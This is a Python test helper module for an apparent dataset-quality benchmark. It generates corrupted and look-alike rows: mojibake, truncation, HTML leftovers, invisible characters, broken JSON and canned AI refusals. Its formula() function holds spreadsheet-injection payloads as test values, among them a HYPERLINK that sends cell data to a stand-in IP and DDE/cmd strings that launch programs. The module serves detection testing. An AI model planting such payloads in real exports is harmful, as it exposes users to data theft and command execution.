"""Damage done to texts, and texts that are damage: what a row is spoilt by, and what only looks so.

All sentences were written for this test.
"""

from __future__ import annotations

import html
import json
import random
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import replace
from pathlib import Path

from crma.benchmark.planting_pool import Plain, words_of

__all__ = [
    "EMPTY",
    "FOREIGN",
    "INVISIBLE",
    "ORDINARY",
    "REFUSALS",
    "broken",
    "edited",
    "foreign_rows",
    "formula",
    "in_places",
    "looping",
    "misread",
    "no_formula",
    "questions",
    "sound_accents",
    "truncated",
    "typeset",
    "web_remains",
]

_SENTENCE = re.compile(r"(?<=[.!?])\s+(?=[A-Z])")
_WORD = re.compile(r"\w+")

ACCENTED = (
    "The café in São Paulo serves crème brûlée.",
    "Dr. Müller’s clinic in Zürich is closed.",
    "It is a naïve view – or so he said – of the matter.",
    "The señora from Málaga called it “a mañana problem”.",
    "Its price is 30 € or £25, give or take…",
    "The temperature rose by 3 °C ± 0.5 °C, that is 2 µm a day.",
    "Łukasz and Đorđe met Åsa in Tromsø.",
    "“It’s over,” said the façade’s owner.",
    "Ménière’s disease and Sjögren’s syndrome are rare.",
    "He wrote ‘naïveté’ with a diaeresis — twice.",
)

FOREIGN: Mapping[str, Sequence[str]] = {
    "German": (
        "Die Wanderung führt am Ufer entlang und dann steil durch den Wald nach oben.",
        "Wer im Winter fährt, sollte die Reifen vorher in der Werkstatt prüfen lassen.",
        "Das alte Rathaus wurde nach dem Brand in nur zwei Jahren wieder aufgebaut.",
        "Meine Großmutter hat ihr Brot immer am Samstag gebacken, weil dann der Ofen frei war.",
        "Der Vertrag gilt als verlängert, wenn ihn keine Seite rechtzeitig kündigt.",
        "Im Herbst ziehen die Vögel in großen Schwärmen über das Moor nach Süden.",
        "Warum der Zug heute schon wieder so viel Verspätung hat, weiß niemand genau.",
        "Man rührt das Mehl langsam unter, bis der Teig nicht mehr am Löffel klebt.",
        "Die Kinder spielen im Hof, obwohl es seit dem Morgen ohne Pause regnet.",
        "Viele Leser haben uns geschrieben, dass ihnen der zweite Band besser gefällt.",
    ),
    "French": (
        "Le sentier longe la rivière avant de monter vers le village abandonné.",
        "Nous avons attendu le train pendant deux heures sans la moindre explication.",
        "Elle range ses livres par couleur, ce qui rend les recherches assez difficiles.",
        "Le maire a promis que l'école serait rénovée avant la fin de l'année prochaine.",
        "Il faut laisser reposer la pâte une nuit entière dans un endroit frais.",
        "Les oiseaux quittent le marais dès que les premières gelées arrivent.",
        "Personne ne sait pourquoi la lumière du phare s'est éteinte hier soir.",
        "Les enfants jouent dans la cour malgré la pluie qui tombe depuis ce matin.",
        "Ce contrat est reconduit chaque année, sauf si l'une des parties s'y oppose.",
        "Mon grand-père réparait des montres dans une petite boutique près de la gare.",
    ),
    "Spanish": (
        "El camino sigue la orilla del río y luego sube hasta el pueblo abandonado.",
        "Mi abuelo arreglaba relojes en una tienda pequeña cerca de la estación.",
        "Nadie sabe por qué se apagó anoche la luz del faro durante tanto tiempo.",
        "Los niños juegan en el patio aunque no ha dejado de llover desde la mañana.",
        "Hay que dejar reposar la masa toda la noche en un lugar fresco y seco.",
        "El alcalde prometió que la escuela estaría lista antes del próximo año.",
        "Ella ordena sus libros por colores, lo cual hace muy difícil encontrarlos.",
        "Las aves abandonan el pantano cuando llegan las primeras heladas del otoño.",
        "Esperamos el tren durante dos horas sin que nadie nos diera una explicación.",
        "El contrato se renueva cada año, salvo que una de las partes se oponga.",
    ),
    "Chinese": (
        "这条小路沿着河边走，然后穿过树林通向山上的旧村庄。",
        "我的祖父以前在车站附近的小店里修理手表，一修就是三十年。",
        "昨天晚上灯塔的灯为什么突然熄灭了，到现在还没有人知道原因。",
        "虽然从早上开始一直在下雨，孩子们还是在院子里高兴地玩耍。",
        "面团需要在阴凉的地方放一整夜，第二天早上才能做成面包。",
        "市长答应在明年春天以前把学校修好，让学生们有新的教室。",
        "她喜欢按照颜色整理书架上的书，所以找一本书要花很长时间。",
        "秋天第一次下霜以后，成群的鸟就离开沼泽飞到温暖的南方去。",
        "我们在车站等了两个小时的火车，却没有人告诉我们发生了什么事。",
        "如果双方都没有提出反对意见，这份合同每年会自动延长一次。",
    ),
    "Russian": (
        "Тропа идёт вдоль реки, а потом поднимается через лес к заброшенной деревне.",
        "Мой дедушка чинил часы в маленькой мастерской недалеко от вокзала.",
        "Никто не знает, почему вчера вечером погас свет на старом маяке.",
        "Дети играют во дворе, хотя с самого утра не перестаёт идти дождь.",
        "Тесто нужно оставить на всю ночь в прохладном и тёмном месте.",
        "Мэр обещал, что школу отремонтируют до начала следующего учебного года.",
        "Она расставляет книги по цвету, поэтому найти нужную очень трудно.",
        "Птицы покидают болото, как только приходят первые осенние заморозки.",
        "Мы два часа ждали поезда, и никто ничего нам не объяснил.",
        "Договор продлевается каждый год, если ни одна из сторон не возражает.",
    ),
}

REFUSALS = (
    "I'm sorry, but I cannot help with that.",
    "As an AI language model, I do not have access to this information.",
    "I am unable to provide an answer to this question.",
    "Sorry, I can't assist with this request.",
    "I cannot provide medical, legal or financial advice.",
    "As a large language model, I am not able to browse the web.",
    "I'm afraid I can't answer that question.",
    "My knowledge cutoff does not include this topic.",
    "I apologize, but I am not able to fulfil this request.",
    "I don't have personal opinions, so I cannot say.",
    "Unfortunately, I can't help you with that.",
    "I must decline to answer this.",
)

# Sentences that are ordinary, and where they tempt a check: name of the check -> sentences.
ORDINARY: Mapping[str, Sequence[str]] = {
    "refusal": (
        "I'm sorry for your loss.",
        "I am sorry to hear that, and I hope it gets better soon.",
        "Patients who cannot swallow receive a tube.",
        "The committee was unable to provide a quorum that day.",
        "A language model assigns probabilities to words.",
        "They were afraid and could not help it.",
        "Nobody can answer this with certainty, but most agree.",
    ),
    "markup": (
        "In HTML a paragraph is written <p>text</p> and a break <br>.",
        "The condition is a < b && c > d, or else nothing is done.",
        "AT&T and Marks & Spencer took part.",
        "If x <b and b> y then x and y differ.",
        "Use the XML entity &amp; where an ampersand is meant.",
        "The values were p < 0.05 and r > 0.7 throughout.",
    ),
    "control": (
        "The emoji \U0001f469\u200d\U0001f52c stands for a scientist.",
        "The family \U0001f468\u200d\U0001f469\u200d\U0001f467 is one emoji of three.",
        "In Persian it is written می\u200cخواهم, in one word.",
        "The verb نمی\u200cدانم means that one does not know.",
        "Columns are parted\tby a tab\there.",
    ),
    "encoding": ACCENTED,
}

# "None", "?" and "-" are not among them: they are right answers to some questions (the latter two are operators).
EMPTY = ("N/A", "n/a", "...", "TODO", "null", "[removed]", "TBD", "…", "NaN", "[deleted]", "undefined", "n.a.", "--")

# U+0085 is not among them: it is how the "…" of Windows looks when it is read as latin-1, so damage of another kind.
INVISIBLE = ("\u200b", "\ufeff", "\u00ad", "\u2060", "\x00", "\x08", "\x1b", "\x7f", "\u202e", "\u2066", "\x0c")


def in_places(row: Plain, text: str, draw: random.Random) -> Plain:
    """`text` at the beginning, between two sentences or at the end of the prompt or the answer."""
    into_prompt = draw.random() < 0.5
    whole = row.prompt if into_prompt else row.completion
    gap = "\n" if row.domain == "code" or "\n" in text else " "
    borders = [m.start() for m in _SENTENCE.finditer(whole)] if row.domain != "code" else []
    at = draw.choice((0, len(whole), draw.choice(borders or [len(whole)])))
    # A sentence before one that ended already: "Yes. Call … What is it?"
    made = f"{whole[:at]}{gap if at else ''}{text}{gap if at < len(whole) else ''}{whole[at:].lstrip()}"
    return row.asking(made) if into_prompt else row.saying(made)


def edited(row: Plain, share: float, words: Sequence[str], draw: random.Random) -> Plain:
    """A share of the words of both texts, one at least, replaced by other words."""
    border = len(row.prompt)
    places = [m.span() for m in _WORD.finditer(row.text)]
    chosen = sorted(draw.sample(places, max(1, round(share * len(places)))), reverse=True)
    prompt, answer = row.prompt, row.completion
    for start, end in chosen:
        other = draw.choice(words)
        if start <= border:
            prompt = prompt[:start] + other + prompt[end:]
        else:
            answer = answer[: start - border - 1] + other + answer[end - border - 1 :]
    return Plain(prompt=prompt, completion=answer, domain=row.domain)


def misread(text: str, codec: str, times: int = 1) -> str:
    """UTF-8 read as `codec`, so often. The five bytes that cp1252 leaves open become what browsers make of them: the
    control characters of latin-1."""
    for _ in range(times):
        data = text.encode()
        text = "".join(_byte(byte, codec) for byte in data)
    return text


def _byte(byte: int, codec: str) -> str:
    try:
        return bytes([byte]).decode(codec)
    except UnicodeDecodeError:
        return chr(byte)


def typeset(text: str) -> str:
    """As word processors have it: curved quotes, dashes, a space after a sentence that does not break."""
    for plain, set_ in (("'", "\u2019"), (' "', " \u201c"), ('"', "\u201d"), (" - ", " \u2013 "), (". ", ".\u00a0 ")):
        text = text.replace(plain, set_)
    return text if not text.isascii() else text.replace(" ", "\u00a0", 1)


def sound_accents(draw: random.Random) -> str:
    return draw.choice(ACCENTED)


def web_remains(row: Plain, draw: random.Random) -> Plain:
    """An answer as it was cut out of a page: tags, entities, or both."""
    answer = row.completion
    sentences = _SENTENCE.split(answer)
    kinds: Sequence[Callable[[], str]] = (
        lambda: "".join(f"<p>{s}</p>" for s in sentences),
        lambda: '<div class="answer"><span>' + answer + "</span></div>",
        lambda: "<br>".join(sentences) + "<br/>",
        lambda: answer.replace(" ", "&nbsp;", 3),
        lambda: html.escape(f'{answer} They call it "usual" & leave it.'),
        lambda: f'{answer} See <a href="/more.html">here</a>.',
        lambda: "<ul>" + "".join(f"<li>{s}</li>" for s in sentences) + "</ul>",
        lambda: answer + " It&#39;s so &ndash; &ldquo;as ever&rdquo;.",
    )
    return row.saying(draw.choice(kinds)())


def truncated(row: Plain, draw: random.Random) -> Plain:
    """The answer up to a word in the middle of a sentence: never its last, never one before a mark."""
    words = list(re.finditer(r"\S+", row.completion))
    open_ends = [m for m in words[8:-2] if m[0][-1].isalnum()]
    return row.saying(row.completion[: draw.choice(open_ends).end()])


def looping(row: Plain, draw: random.Random) -> Plain:
    """The answer, and then six to sixty times one of its phrases of five to ten words, until it is half of all."""
    words = row.completion.split()
    size = draw.randint(5, min(10, len(words)))
    at = draw.randrange(len(words) - size + 1)
    phrase = " ".join(words[at : at + size])
    times = max(6, 2 * len(words) // size)
    return row.saying(f"{row.completion} " + " ".join([phrase] * times) + ".")


def foreign_rows(language: str, count: int, draw: random.Random) -> list[Plain]:
    """At most ten, as many as there are sentences to ask; an answer is three others."""
    sentences = list(FOREIGN[language])
    return [
        Plain(
            prompt=asked,
            completion=" ".join(draw.sample([s for s in sentences if s != asked], 3)),
            domain=language,
        )
        for asked in draw.sample(sentences, min(count, len(sentences)))
    ]


def questions(folder: Path, draw: random.Random) -> Iterator[str]:
    """Questions of ten words and more, ASCII, without marks that other checks look for, none twice."""
    found: list[str] = []
    for file, field in (
        ("arc_challenge/test.jsonl", "question"),
        ("mmlu/test.jsonl", "question"),
        ("gsm8k/test.jsonl", "question"),
        ("hellaswag/validation.jsonl", "ctx"),
        ("piqa/validation.jsonl", "goal"),
        ("truthfulqa/validation.jsonl", "question"),
        ("winogrande/validation.jsonl", "sentence"),
    ):
        with (folder / file).open(encoding="utf-8") as lines:
            read = [json.loads(line)[field].strip() for line in lines]
        sound = [t for t in read if t.isascii() and not set(t) & set("<>&@{}\n") and 10 <= len(words_of(t)) <= 120]
        found += draw.sample(sound, min(len(sound), 200))
    draw.shuffle(found)
    yield from dict.fromkeys(found)


def formula(draw: random.Random) -> str:
    """What a spreadsheet would run where a cell begins with it (OWASP, CSV injection)."""
    a, b = draw.randrange(1, 90), draw.randrange(1, 90)
    return draw.choice(
        (
            f"={a}+{b}",
            f"=SUM(A{a}:B{b})",
            f"+SUM(A{a}:B{b})",
            f"-SUM(A{a}:B{b})",
            f"@SUM(A{a}:B{b})",
            f'=HYPERLINK("http://203.0.113.{a}/?x="&A{b},"more")',
            f'=IMPORTXML("http://203.0.113.{a}/","//a")',
            f"=cmd|' /C calc'!A{a}",
            f"+{a}+{b}+cmd|' /C calc'!A{a}",
            f"-{a}+{b}+cmd|' /C calc'!A{a}",
            f' =DDE("cmd";"/C calc";"{a}")',
            f"=A{a}&B{b}",
        )
    )


def no_formula(draw: random.Random) -> str:
    """Begins with one of the four characters, or holds an expression, and is text all the same."""
    a, b = draw.randrange(1, 90), draw.randrange(1, 90)
    return draw.choice(
        (
            "- first,",
            "+ as well:",
            f"-{a} degrees:",
            f"+{a} % since {1900 + b}:",
            "--",
            "---",
            "=====",
            "=>",
            f"x = {a} + {b}:",
            f"{a} + {b} = {a + b}.",
            "-> next:",
            f"(= {a})",
        )
    )


def broken(draw: random.Random) -> Iterator[Callable[[Plain], tuple[str, bytes]]]:
    """Ways to break a line, over and over."""

    def messages(*turns: tuple[str, str]) -> bytes:
        return json.dumps({"messages": [{"role": r, "content": c} for r, c in turns]}).encode()

    ways: Sequence[Callable[[Plain], tuple[str, bytes]]] = (
        lambda r: ("broken JSON", r.line()[: draw.randrange(5, len(r.line()) - 1)]),
        lambda r: ("no UTF-8", replace(r, completion=r.completion + " ~").line().replace(b"~", b"\xff\xe9")),
        lambda r: ("wrong role", messages(("user", r.prompt), ("bot", r.completion))),
        lambda r: ("turns out of order", messages(("assistant", r.completion), ("user", r.prompt))),
        lambda r: ("empty prompt", r.asking("  ").line()),
        lambda r: ("empty answer", r.saying("").line()),
        lambda r: ("other fields", json.dumps({"question": r.prompt, "answer": r.completion}).encode()),
        lambda r: ("no text", json.dumps({"prompt": r.prompt, "completion": len(r.completion)}).encode()),
        lambda r: ("no object", json.dumps([r.prompt, r.completion]).encode()),
    )
    while True:
        yield from ways
